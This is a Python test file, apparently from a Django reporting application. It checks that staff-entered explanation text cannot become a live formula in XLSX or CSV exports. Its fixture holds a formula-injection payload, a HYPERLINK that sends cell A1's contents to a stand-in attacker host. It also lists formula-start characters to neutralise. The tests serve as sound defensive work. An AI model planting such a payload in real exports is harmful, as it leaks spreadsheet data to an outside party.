"""Item 11 of issue 10: text written by staff never becomes a live formula in an export (R-13.2, R-14.4)."""

from __future__ import annotations

import csv
import io

import pytest
import time_machine
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from pakn.core.exports import neutralise_formula
from pakn.stats.services import late_explanation_save
from tests.conftest import at
from tests.stats.conftest import NOW, dataset  # noqa: F401  (the statistics fixture)

MAY = {"period": "month", "year": "2026", "month": "5"}
INJECTION = '=HYPERLINK("http://attacker.example/?x="&A1,"Xem chi tiết")'


@pytest.fixture
def explained(dataset):  # noqa: F811
    with time_machine.travel(NOW, tick=False):
        late_explanation_save(
            actor=dataset.org.commune_leader,
            report=dataset.r["R3"],
            step="handle",
            due_at=at("2026-05-04 15:00"),
            agency=dataset.c1,
            text=INJECTION,
            now=NOW,
        )
        yield dataset


def _download(user, fmt: str):
    client = Client()
    client.force_login(user)
    with time_machine.travel(NOW, tick=False):
        response = client.get(reverse("stats:late"), {**MAY, "format": fmt})
    assert response.status_code == 200
    return response


def test_leaders_explanation_starting_with_equals_is_not_a_formula_in_the_xlsx(explained):
    wb = load_workbook(io.BytesIO(_download(explained.org.supervisor, "xlsx").content))
    sheet = wb["Trễ hạn"]
    cells = [
        c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value
    ]
    assert len(cells) == 1
    assert cells[0].data_type == "s" and cells[0].value == "'" + INJECTION
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_leaders_explanation_starting_with_equals_is_not_a_formula_in_the_csv(explained):
    raw = _download(explained.org.supervisor, "csv").content.decode("utf-8-sig")
    values = [v for row in csv.reader(io.StringIO(raw)) for v in row]
    assert "'" + INJECTION in values
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in values)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_start_is_neutralised(text):
    assert neutralise_formula(text) == "'" + text
    assert neutralise_formula("Đường 1-5") == "Đường 1-5" and neutralise_formula(-5) == -5
